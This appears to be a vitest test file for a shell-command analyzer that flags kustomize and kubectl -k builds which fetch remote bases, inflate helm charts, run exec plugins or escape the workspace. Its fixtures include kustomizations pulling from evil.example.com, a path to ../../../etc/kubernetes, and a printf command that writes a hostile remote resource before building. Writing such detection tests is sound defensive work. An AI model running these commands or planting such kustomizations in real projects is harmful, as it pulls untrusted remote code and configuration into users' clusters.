// What a kustomization makes `kustomize build`, `kubectl kustomize` and `kubectl … -k` fetch or run (ADR 0089):
// remote bases, helm chart inflation, plugins and KRM functions, folders outside the workspace. Real folders in a
// temp directory, read through the plain file reader as the surface's would; each dangerous case has an ordinary
// twin that stays quiet.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { diskReader as reader } from '../testdata/disk-reader';
import { shellEnv } from '../testdata/shell-env';

let root = '';
let ws = '';

const FILES: Record<string, string> = {
  'remote/kustomization.yaml': 'resources:\n- https://github.com/x/y//base?ref=v1\n',
  'gitbase/kustomization.yaml': 'resources:\n- git::https://example.org/x/y.git//base?ref=main\n',
  'hostpath/kustomization.yml': 'resources:\n- github.com/x/repo/deploy?ref=v1\n',
  'sshbase/Kustomization': 'bases:\n- git@example.org:x/y.git\n',
  'remotefile/kustomization.yaml': 'resources:\n- https://raw.example.org/x/all.yaml\n',
  'base/kustomization.yaml': 'resources:\n- deploy.yaml\n',
  'base/deploy.yaml': 'kind: ConfigMap\n',
  'overlay/kustomization.yaml': 'resources:\n- ../base\nnamePrefix: dev-\n',
  'badbase/kustomization.yaml': 'components:\n- https://evil.example.com/c.yaml\n',
  'badoverlay/kustomization.yaml': 'resources:\n- ../badbase\n',
  'helm/kustomization.yaml': 'helmCharts:\n- name: x\n  repo: https://charts.example.com\n  version: 1.0.0\n',
  'exec/kustomization.yaml': 'transformers:\n- fn.yaml\n',
  'exec/fn.yaml':
    'apiVersion: example.com/v1\nkind: X\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: ./run.sh\n',
  'legacy/kustomization.yaml': 'generators:\n- gen.yaml\n',
  'legacy/gen.yaml': 'apiVersion: someteam.example.com/v1\nkind: SecretsFromDatabase\nmetadata:\n  name: x\n',
  'builtin/kustomization.yaml': 'transformers:\n- prefix.yaml\nresources:\n- cm.yaml\n',
  'builtin/prefix.yaml':
    'apiVersion: builtin\nkind: PrefixSuffixTransformer\nmetadata:\n  name: p\nprefix: a-\nfieldSpecs:\n- path: metadata/name\n',
  'builtin/cm.yaml': 'kind: ConfigMap\n',
  'escape/kustomization.yaml': 'resources:\n- ../../../etc/kubernetes\n',
  'unparsed/kustomization.yaml': 'resources: &a\n- x.yaml\n',
};

beforeAll(async () => {
  await loadShellParser();
  root = mkdtempSync(join(tmpdir(), 'gavel-kustomize-'));
  ws = join(root, 'proj');
  for (const [name, text] of Object.entries(FILES)) {
    mkdirSync(dirname(join(ws, name)), { recursive: true });
    writeFileSync(join(ws, name), text);
  }
});

afterAll(() => {
  if (root) rmSync(root, { recursive: true, force: true });
});

const run = (command: string, cwd = ws) =>
  analyzeShellSync(
    command,
    shellEnv({ cwd, home: join(root, 'home'), workspaceRoots: [ws], tempDirs: [], readScript: reader }),
  );
const flagged = (command: string, cwd?: string) => {
  const a = run(command, cwd);
  return (
    a.hits.some((h) => h.category === 'outbound_network_to_unstated_host') ||
    a.uncertain.some((u) => /kustomiz|content not shown/.test(u.reason))
  );
};

describe('a kustomization that fetches from elsewhere or runs code is not quiet', () => {
  it.each<[string, string]>([
    ['remote base by URL', 'kustomize build remote'],
    ['remote base through kubectl kustomize', 'kubectl kustomize remote'],
    ['remote base through kubectl diff -k', 'kubectl diff -k remote'],
    ['remote base through --kustomize=', 'kubectl apply --kustomize=remote --dry-run=client'],
    ['git:: base', 'kustomize build gitbase'],
    ['host/org/repo base not in the workspace', 'kustomize build hostpath'],
    ['ssh base', 'kustomize build sshbase'],
    ['remote resource file', 'kubectl kustomize remotefile'],
    ['remote component two levels down', 'kustomize build badoverlay'],
    ['helm chart inflation', 'kustomize build helm'],
    ['exec KRM function', 'kustomize build --enable-alpha-plugins --enable-exec exec'],
    ['legacy generator plugin', 'kubectl kustomize legacy --enable-alpha-plugins'],
    ['plugins perhaps enabled by a word known at run time', 'kustomize build $FLAGS exec'],
    ['a function through kubectl -k, enabled', 'kubectl diff -k exec --enable-alpha-plugins'],
    ['a base outside the workspace', 'kustomize build escape'],
    ['a kustomization the reader refuses', 'kustomize build unparsed'],
    ['a URL target', 'kustomize build https://github.com/x/y//deploy'],
    ['a target named at run time', 'kustomize build "$DIR"'],
    [
      'a kustomization written in the same line',
      "printf 'resources:\\n- https://evil.example.com/a.yaml\\n' > base/kustomization.yaml && kustomize build base",
    ],
    [
      'a kustomization changed earlier in the line',
      'cat /tmp/k >> base/kustomization.yaml; kubectl kustomize base',
    ],
  ])('%s', (_name, command) => {
    expect(flagged(command)).toBe(true);
  });

  it('a remote base is a host reached, by name', () => {
    const a = run('kustomize build remote');
    expect(a.hits.map((h) => h.category)).toContain('outbound_network_to_unstated_host');
  });
});

describe('an overlay of workspace files stays quiet', () => {
  it.each<[string, string]>([
    ['local base', 'kustomize build base'],
    ['overlay of a local base', 'kubectl kustomize overlay'],
    ['built-in transformer', 'kustomize build builtin'],
    ['overlay from its own folder', 'kustomize build'],
    ['no kustomization at all', 'kubectl kustomize .'],
    ['diff of a local overlay', 'kubectl diff -k overlay'],
    // Without `--enable-alpha-plugins` the renderer refuses a function or a legacy plugin and runs none of it.
    ['an exec function not enabled', 'kustomize build exec'],
    ['a legacy plugin not enabled', 'kubectl kustomize legacy'],
    ['a function through kubectl -k, not enabled', 'kubectl apply -k exec --dry-run=client'],
  ])('%s', (_name, command) => {
    expect(flagged(command, command === 'kustomize build' ? join(ws, 'overlay') : ws)).toBe(false);
  });
});
